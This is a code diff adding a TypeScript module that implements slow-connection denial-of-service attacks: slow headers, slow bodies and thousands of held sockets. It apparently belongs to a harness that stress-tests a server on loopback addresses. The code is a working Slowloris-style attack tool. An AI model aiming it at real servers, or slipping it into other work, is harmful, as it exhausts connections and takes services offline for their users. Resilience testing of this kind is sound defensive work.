@@ -1,0 +1,83 @@
+import type { Socket } from 'node:net'
+import { setTimeout as sleep } from 'node:timers/promises'
+import { requestText } from '../ask.ts'
+import { type Attack, count, type Outcome, type Scene, type Tally } from '../attack.ts'
+import { openSocket, senderAddress } from '../loopback.ts'
+
+type Holding = {
+  sockets: number
+  /** how many senders share them */
+  senders: number
+  /** sent at once */
+  opening: string
+  /** sent again and again, so that no silence ends the connection */
+  drip: string
+  /** a connection that the server ends is opened again */
+  again?: boolean
+}
+
+const DRIP_MS = 1_000
+const OPENED_AT_ONCE = 200
+
+/** Holds connections for as long as the attack lasts, each with a request that never becomes whole. */
+async function hold(
+  { target, signal }: Scene,
+  { sockets, senders, opening, drip, again }: Holding,
+): Promise<Outcome> {
+  const answers: Tally = new Map()
+  const held = new Set<Socket>()
+  function open(number: number): void {
+    if (signal.aborted) return
+    const socket = openSocket(target, senderAddress(number % senders))
+    held.add(socket)
+    socket.on('connect', () => count(answers, 'opened'))
+    socket.on('data', (chunk: Buffer) =>
+      count(answers, /^HTTP\/1\.1 (\d{3})/.exec(chunk.toString())?.[1] ?? 'more'),
+    )
+    socket.on('error', (error: NodeJS.ErrnoException) => count(answers, error.code ?? error.message))
+    socket.on('close', () => {
+      held.delete(socket)
+      count(answers, 'ended')
+      if (again) setTimeout(() => open(number), DRIP_MS).unref()
+    })
+    socket.write(opening)
+  }
+  for (let number = 0; number < sockets && !signal.aborted; number += 1) {
+    open(number)
+    if (number % OPENED_AT_ONCE === 0) await sleep(10)
+  }
+  while (!signal.aborted) {
+    await sleep(DRIP_MS)
+    for (const socket of held) if (socket.writable) socket.write(drip)
+  }
+  for (const socket of held) socket.destroy()
+  return { answers }
+}
+
+const SLOW_HEADERS = { opening: 'GET / HTTP/1.1\r\nHost: attacked.example\r\n', drip: 'X-A: b\r\n' }
+const SLOW_BODY = {
+  opening: requestText({
+    method: 'POST',
+    path: '/api/bus-quote',
+    headers: { connection: 'keep-alive', 'content-type': 'application/json', 'content-length': '90000' },
+  }),
+  drip: ' ',
+}
+
+export const slowHeaders: Attack = {
+  name: 'slow-headers',
+  title: 'Slow headers, 300 sockets of 30 senders',
+  run: (scene) => hold(scene, { ...SLOW_HEADERS, sockets: 300, senders: 30, again: true }),
+}
+
+export const slowBodies: Attack = {
+  name: 'slow-bodies',
+  title: 'Slow bodies, 300 sockets of 30 senders',
+  run: (scene) => hold(scene, { ...SLOW_BODY, sockets: 300, senders: 30, again: true }),
+}
+
+export const heldSockets: Attack = {
+  name: 'held-sockets',
+  title: 'Held sockets, 4,100 of one sender',
+  run: (scene) => hold(scene, { ...SLOW_HEADERS, sockets: 4_100, senders: 1 }),
+}
